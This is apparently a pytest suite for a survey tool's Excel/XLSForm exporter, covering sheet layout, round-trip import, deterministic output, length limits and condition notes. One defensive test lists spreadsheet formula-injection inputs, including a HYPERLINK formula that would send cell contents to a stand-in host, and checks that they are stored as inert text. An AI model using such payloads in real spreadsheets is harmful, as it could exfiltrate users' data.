"""A questionnaire as a workbook: what it holds, what it never holds, and what comes back of it."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace

import openpyxl
import pytest

from feedback.surveys.conditions.ast import Answer, Compare, Given, Value
from feedback.surveys.document import Choice, Question, Questionnaire, Section, Texts
from feedback.surveys.exporting import NotExportable
from feedback.surveys.exporting.xlsform import LONGEST_CELL, write
from feedback.surveys.importers import inspect


def both(text: str) -> Texts:
    return Texts({"en": f"{text} (en)", "es": text})


CHOICES = (Choice("a", both("Opción A")), Choice("b", both("Opción B")))
DOCUMENT = Questionnaire(
    title=both("Encuesta"),
    intro=both("Bienvenida"),
    languages=("es", "en"),
    base_language="es",
    sections=(
        Section(
            "s1",
            both("Uno"),
            (
                Question("q1", "which", "which", "single", both("¿Cuál?"), required=True, choices=CHOICES),
                Question(
                    "q2", "many", "many", "multi", both("¿Cuáles?"), settings={"max": 1, "min": 1}, choices=CHOICES
                ),
            ),
        ),
        Section(
            "s2",
            both("Dos"),
            (
                Question("q3", "age", "age", "number", both("¿Edad?"), settings={"min": 0, "max": 120}),
                Question(
                    "q4",
                    "why",
                    "why",
                    "longtext",
                    both("¿Por qué {which}?"),
                    shown_when=Compare(Answer("q2"), "includes", Value("b")),
                ),
            ),
            shown_when=Compare(Answer("q1"), "equals", Value("a")),
        ),
    ),
    layout="section",
    thanks=both("Gracias"),
)


def sheets(raw: bytes) -> dict[str, list[list[str]]]:
    book = openpyxl.load_workbook(io.BytesIO(raw))
    return {
        sheet.title: [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
        for sheet in book
    }


def test_the_sheets_of_a_questionnaire() -> None:
    found = sheets(write(DOCUMENT))
    assert list(found) == ["survey", "choices", "settings", "notes"]
    header, *rows = found["survey"]
    assert header == [
        "type",
        "name",
        "label::Español (es)",
        "label::English (en)",
        "required",
        "relevant",
        "constraint",
        "appearance",
    ]
    assert [row[:2] for row in rows] == [
        ["note", "intro"],
        ["begin_group", "section_1"],
        ["select_one which_options", "which"],
        ["select_multiple many_options", "many"],
        ["end_group", ""],
        ["begin_group", "section_2"],
        ["integer", "age"],
        ["text", "why"],
        ["end_group", ""],
        ["note", "thanks"],
    ]
    assert found["settings"] == [
        ["form_title", "form_id", "default_language", "style"],
        ["Encuesta", "feedback", "Español (es)", "pages"],
    ]
    assert found["notes"] == [["question", "note"]]


def test_what_goes_out_comes_back() -> None:
    back = inspect(write(DOCUMENT))
    document = back.questionnaire
    assert (back.title, back.languages, back.base_language) == (
        "Encuesta",
        ("Español (es)", "English (en)"),
        "Español (es)",
    )
    assert (document.languages, document.layout) == (("es", "en"), "section")
    questions = {one.code: one for one in document.questions()}
    for ours in DOCUMENT.questions():
        there = questions[ours.code]
        assert (there.kind, there.text, there.required, there.choices, dict(there.settings)) == (
            ours.kind,
            ours.text,
            ours.required,
            ours.choices,
            dict(ours.settings),
        )
    ids = {one.code: one.id for one in document.questions()}
    assert questions["why"].shown_when == Compare(Answer(ids["many"]), "includes", Value("b"))
    assert document.sections[2].shown_when == Compare(Answer(ids["which"]), "equals", Value("a"))
    assert [entry.construct for entry in back.report if "appearance" not in entry.construct] == ["sheet: notes"]


def test_the_same_questionnaire_is_the_same_file() -> None:
    assert write(DOCUMENT) == write(DOCUMENT)


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://e?"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "＝1", "https://a.example", "007"]
)
def test_no_text_ever_becomes_a_formula_a_link_or_a_number(text: str) -> None:
    question = Question("q1", "q", "q", "text", Texts({"es": text}))
    document = Questionnaire(
        Texts({"es": text}), languages=("es",), base_language="es", sections=(Section("s", questions=(question,)),)
    )
    raw = write(document)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist() if "worksheets" in name)
    assert b"<f>" not in whole
    assert b"<hyperlink" not in whole
    cell = openpyxl.load_workbook(io.BytesIO(raw))["survey"]["C3"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_a_text_no_cell_can_hold_is_refused_and_never_cut() -> None:
    fits = replace(DOCUMENT, intro=Texts({"es": "x" * LONGEST_CELL}))
    assert inspect(write(fits)).questionnaire is not None
    for text in ("x" * (LONGEST_CELL + 1), "😀" * (LONGEST_CELL // 2 + 1)):
        with pytest.raises(NotExportable, match="Nothing was cut"):
            write(replace(DOCUMENT, intro=Texts({"es": text})))


def test_what_cannot_be_said_is_noted_in_the_readers_words() -> None:
    hidden = replace(
        DOCUMENT.sections[0].questions[0],
        shown_when=Compare(Given("group"), "equals", Value("customers")),
        stage="visit",
    )
    document = replace(DOCUMENT, sections=(replace(DOCUMENT.sections[0], questions=(hidden,)),))
    notes = sheets(write(document, lambda text: f"[{text.id}]"))["notes"]
    assert [row[0] for row in notes] == ["question", "which", "which"]
    assert notes[2][1] == "[Its condition cannot be said there.]"
